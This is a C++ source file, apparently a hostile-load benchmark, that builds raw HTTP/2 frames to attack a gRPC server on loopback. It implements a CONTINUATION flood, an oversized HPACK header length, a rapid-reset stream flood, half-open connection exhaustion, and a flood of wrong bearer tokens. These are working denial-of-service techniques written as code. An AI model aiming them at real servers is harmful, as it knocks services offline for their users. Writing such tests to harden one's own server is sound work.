// Peers of the gRPC port that speak HTTP/2 by hand.

#include <arpa/inet.h>
#include <netinet/in.h>
#include <poll.h>
#include <sys/socket.h>

#include <array>
#include <cerrno>
#include <cstdint>
#include <cstdlib>
#include <stdexcept>
#include <string>
#include <vector>

#include "base/posix/unique_fd.h"
#include "bench/hostile/attack.h"

namespace rknnd::bench {
namespace {

constexpr int kConnections = 4;

enum Type : uint8_t {
  kData = 0,
  kHeaders = 1,
  kReset = 3,
  kSettings = 4,
  kContinuation = 9
};
constexpr uint8_t kEndStream = 1, kEndHeaders = 4, kAck = 1;

std::string Frame(uint8_t type, uint8_t flags, uint32_t stream,
                  const std::string& payload = "") {
  const auto size = static_cast<uint32_t>(payload.size());
  std::string frame;
  for (const int shift : {16, 8, 0}) {
    frame += static_cast<char>(size >> shift & 0xff);
  }
  frame += static_cast<char>(type);
  frame += static_cast<char>(flags);
  for (const int shift : {24, 16, 8, 0}) {
    frame += static_cast<char>(stream >> shift & 0xff);
  }
  return frame + payload;
}

// A text's length as HPACK writes it.
std::string Length(uint32_t size) {
  constexpr uint32_t kInFirst = 127;
  if (size < kInFirst) return std::string(1, static_cast<char>(size));
  std::string bytes(1, static_cast<char>(kInFirst));
  for (size -= kInFirst; size >= 128; size >>= 7) {
    bytes += static_cast<char>(size % 128 + 128);
  }
  return bytes + static_cast<char>(size);
}

// A header without HPACK's tables.
std::string Header(const std::string& name, const std::string& value) {
  return std::string(1, '\0') + Length(static_cast<uint32_t>(name.size())) +
         name + Length(static_cast<uint32_t>(value.size())) + value;
}

// Of a call without a message.
std::string CallHeaders(const std::string& more = "") {
  return Header(":method", "POST") + Header(":scheme", "http") +
         Header(":path", "/inference.GRPCInferenceService/ServerMetadata") +
         Header(":authority", "board") + Header("te", "trailers") +
         Header("content-type", "application/grpc") + more;
}

base::UniqueFd Dial(const Scene& scene) {
  const size_t colon = scene.grpc.rfind(':');
  sockaddr_in address{};
  address.sin_family = AF_INET;
  address.sin_port =
      htons(static_cast<uint16_t>(std::atoi(scene.grpc.c_str() + colon + 1)));
  address.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
  base::UniqueFd fd(socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0));
  if (connect(fd.get(), reinterpret_cast<sockaddr*>(&address),
              sizeof address) != 0) {
    fd.reset();
  }
  return fd;
}

bool Send(const base::UniqueFd& fd, const std::string& bytes) {
  size_t sent = 0;
  while (sent < bytes.size()) {
    const ssize_t now =
        send(fd.get(), bytes.data() + sent, bytes.size() - sent, MSG_NOSIGNAL);
    if (now <= 0) return false;
    sent += static_cast<size_t>(now);
  }
  return true;
}

// What has come, unread otherwise; whether the connection is still there.
bool Drain(const base::UniqueFd& fd) {
  static thread_local std::array<char, 65536> bytes;
  for (;;) {
    const ssize_t got =
        recv(fd.get(), bytes.data(), bytes.size(), MSG_DONTWAIT);
    if (got == 0) return false;
    if (got < 0) return errno == EAGAIN;
  }
}

base::UniqueFd Greet(const Scene& scene) {
  base::UniqueFd fd = Dial(scene);
  Send(fd, "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + Frame(kSettings, 0, 0) +
               Frame(kSettings, kAck, 0));
  return fd;
}

void SendHeadersWithoutEnd(const Scene& scene, const std::string& begin,
                           const std::string& more) {
  const std::string first = Frame(kHeaders, 0, 1, CallHeaders(begin));
  const std::string next = Frame(kContinuation, 0, 1, more);
  InThreads(kConnections, [&scene, first, next](int) {
    for (;;) {
      const base::UniqueFd fd = Greet(scene);
      if (!Send(fd, first)) continue;
      while (Send(fd, next) && Drain(fd)) {
      }
    }
  });
  Announce("4 connections");
  WaitForDeath();
}

}  // namespace

void AttackByContinuations(const Scene& scene) {
  SendHeadersWithoutEnd(scene, "", Header("x", std::string(8000, 'y')));
}

void AttackByEndlessHeader(const Scene& scene) {
  SendHeadersWithoutEnd(scene, std::string("\0\1x", 3) + Length(2'000'000'000),
                        std::string(16384, 'y'));
}

void AttackByResets(const Scene& scene) {
  InThreads(kConnections, [&scene](int) {
    const std::string headers = CallHeaders();
    for (;;) {
      const base::UniqueFd fd = Greet(scene);
      bool open = true;
      for (uint32_t stream = 1; open && stream < (1U << 30); stream += 128) {
        std::string calls;
        for (uint32_t i = stream; i < stream + 128; i += 2) {
          calls += Frame(kHeaders, kEndHeaders, i, headers) +
                   Frame(kReset, 0, i, std::string("\0\0\0\x8", 4));
        }
        open = Send(fd, calls) && Drain(fd);
      }
    }
  });
  Announce("4 connections");
  WaitForDeath();
}

void AttackByHalfOpen(const Scene& scene) {
  constexpr size_t kMost = 2000;
  std::vector<base::UniqueFd> fds(kMost);
  for (size_t i = 0;; ++i) {
    base::UniqueFd& fd = fds.at(i % kMost);
    // Half of them begin as HTTP/2 does.
    if (!fd.valid() || !Drain(fd)) {
      fd = Dial(scene);
      if (fd.valid() && i % 2 == 0) Send(fd, "PRI * HTTP/2.0\r\n");
    }
    if (i == kMost) Announce("2000 connections");
    if (i >= kMost && i % 100 == 0) poll(nullptr, 0, 1);
  }
}

void AttackByTokens(const Scene& scene) {
  constexpr size_t kCrowd = 200;
  struct Guesser {
    base::UniqueFd fd;
    uint32_t stream = 1;
    std::string unsent;
  };
  std::vector<Guesser> crowd(kCrowd);
  const std::string headers =
      CallHeaders(Header("authorization", "Bearer guessed-and-wrong-token"));
  const std::string message(5, '\0');
  for (bool told = false;; told = true) {
    for (Guesser& one : crowd) {
      if (!one.fd.valid() || !Drain(one.fd) || one.stream >= (1U << 30)) {
        one = {Greet(scene), 1, ""};
      }
      if (one.unsent.empty()) {
        one.unsent = Frame(kHeaders, kEndHeaders, one.stream, headers) +
                     Frame(kData, kEndStream, one.stream, message);
        one.stream += 2;
      }
      const ssize_t sent = send(one.fd.get(), one.unsent.data(),
                                one.unsent.size(), MSG_NOSIGNAL | MSG_DONTWAIT);
      if (sent > 0) one.unsent.erase(0, static_cast<size_t>(sent));
    }
    if (!told) Announce("200 connections");
  }
}

}  // namespace rknnd::bench
